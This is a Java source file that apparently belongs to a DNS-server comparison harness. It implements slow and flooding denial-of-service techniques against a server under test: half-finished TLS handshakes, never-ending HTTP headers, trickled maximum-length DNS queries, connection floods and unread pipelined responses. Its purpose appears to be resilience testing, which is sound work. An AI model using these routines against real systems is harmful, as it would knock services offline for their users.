package dev.onoma.comparison;

import java.io.IOException;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayDeque;
import java.util.Arrays;
import java.util.function.Predicate;

/// What is done with connections that bring nothing, or little, or take nothing.
final class SlowDeeds {
    private static final int PAUSE_MILLIS = 200;
    private static final byte[] HALF_HELLO = {0x16, 3, 1, 2, 0, 1, 0, 1, (byte) 0xfc};
    private static final byte[] LARGEST_LENGTH = {(byte) 0xff, (byte) 0xff};
    private static final byte[] ZERO = {0};

    private SlowDeeds() {}

    /// Opens a connection that will say nothing useful.
    @FunctionalInterface
    private interface Opening {
        Socket open(Victim victim) throws IOException;
    }

    /// Holds connections, each of which says an octet now and then; those that end are replaced.
    private static Deed held(int count, Opening opening, Predicate<Socket> goOn) {
        return (victim, untilNanos) -> {
            var sockets = new ArrayDeque<Socket>();
            try {
                while (Deed.isTime(untilNanos)) {
                    fill(sockets, count, opening, victim, untilNanos);
                    Thread.sleep(PAUSE_MILLIS);
                    sockets.removeIf(socket -> !goOn.test(socket));
                }
            } finally {
                for (var socket : sockets) {
                    socket.close();
                }
            }
        };
    }

    private static void fill(
            ArrayDeque<Socket> sockets,
            int count,
            Opening opening,
            Victim victim,
            long untilNanos) {
        while (sockets.size() < count && Deed.isTime(untilNanos)) {
            try {
                sockets.add(opening.open(victim));
            } catch (IOException _) {
                return; // full: later again
            }
        }
    }

    private static Predicate<Socket> says(byte... octets) {
        return socket -> {
            try {
                socket.getOutputStream().write(octets);
                return true;
            } catch (IOException _) {
                return false;
            }
        };
    }

    private static Socket said(Socket socket, byte... octets) throws IOException {
        socket.getOutputStream().write(octets);
        return socket;
    }

    /// Handshakes that stop in the middle of the client's first message.
    static Deed halfHandshakes(String door, int count) {
        return held(
                count,
                victim -> said(victim.connect(door, Victim.ATTACKER), HALF_HELLO),
                socket -> true);
    }

    /// Handshakes that stop when the client has said hello, so that the server has had its work.
    static Deed helloOnly(String door, int count) {
        return (victim, untilNanos) -> {
            var hello = hello(victim);
            held(count, v -> said(v.connect(door, Victim.ATTACKER), hello), socket -> true)
                    .strike(victim, untilNanos);
        };
    }

    private static byte[] hello(Victim victim) throws IOException {
        var engine = victim.context().createSSLEngine();
        engine.setUseClientMode(true);
        var hello = ByteBuffer.allocate(engine.getSession().getPacketBufferSize());
        engine.wrap(ByteBuffer.allocate(0), hello);
        return Arrays.copyOf(hello.array(), hello.position());
    }

    /// Handshakes that stop when the client has said hello, as many as there can be.
    static Deed helloAgain(String door) {
        return Deed.again((victim, untilNanos) -> {
            var hello = hello(victim);
            while (Deed.isTime(untilNanos)) {
                try (var socket = said(victim.connect(door, Victim.ATTACKER), hello)) {
                    socket.getInputStream().read(); // TLS has answered
                    socket.setSoLinger(true, 0);
                }
            }
        });
    }

    /// Queries of the largest length, an octet at a time.
    static Deed halfQueries(String door, int count) {
        return held(
                count,
                victim -> said(victim.open(door, Victim.ATTACKER), LARGEST_LENGTH),
                says(ZERO));
    }

    /// Queries of the largest length of which the last octet is missing.
    static Deed almostWholeQueries(int count) {
        return held(
                count,
                victim -> {
                    var socket = victim.connect("dns", Victim.ATTACKER);
                    socket.setSoTimeout(PAUSE_MILLIS);
                    return said(said(socket, LARGEST_LENGTH), new byte[0xfffe]);
                },
                socket -> true);
    }

    /// Requests over HTTP whose header does not end.
    static Deed halfRequests(String door, int count) {
        var begun = "GET /%s HTTP/1.1\r\nX: ".formatted(door).getBytes(StandardCharsets.US_ASCII);
        return held(
                count,
                victim ->
                        said(
                                door.equals("https")
                                        ? victim.encrypted(door, Victim.ATTACKER, "http/1.1")
                                        : victim.connect(door, Victim.ATTACKER),
                                begun),
                says((byte) 'a'));
    }

    /// Greetings of HTTP/2 of which the end is missing.
    static Deed halfGreetings(String door, int count) {
        return held(
                count,
                victim ->
                        said(
                                victim.open(door, Victim.ATTACKER),
                                "PRI * HTTP/2.0\r\n".getBytes(StandardCharsets.US_ASCII)),
                socket -> true);
    }

    /// As many connections as there can be, held.
    static Deed connections(String door, int count) {
        return held(count, victim -> victim.connect(door, Victim.ATTACKER), socket -> true);
    }

    /// Connections that end at once, as fast as they can be made.
    static Deed shortConnections(String door) {
        return Deed.again((victim, untilNanos) -> {
            try (var socket = victim.connect(door, Victim.ATTACKER)) {
                socket.setSoLinger(true, 0); // no port stays behind
            }
        });
    }

    /// Asks for large answers, and reads none.
    static Deed answersNotRead(String door, int count) {
        var one = request(door);
        return held(
                count,
                victim -> {
                    var socket =
                            door.equals("https")
                                    ? victim.encrypted(door, Victim.ATTACKER, "http/1.1")
                                    : victim.open(door, Victim.ATTACKER);
                    // Many requests, few octets: what the server's socket takes is not read either.
                    for (int i = 0; i < 100; i++) {
                        socket.getOutputStream().write(one);
                    }
                    return socket;
                },
                socket -> true);
    }

    private static byte[] request(String door) {
        return switch (door) {
            case "https" ->
                    "GET /dns-query?dns=%s HTTP/1.1\r\nHost: a\r\n\r\n"
                            .formatted(Victim.base64(Victim.BIG_NAME))
                            .getBytes(StandardCharsets.US_ASCII);
            case "metrics" ->
                    "GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
            default -> Victim.prefixed(Victim.BIG_NAME);
        };
    }
}
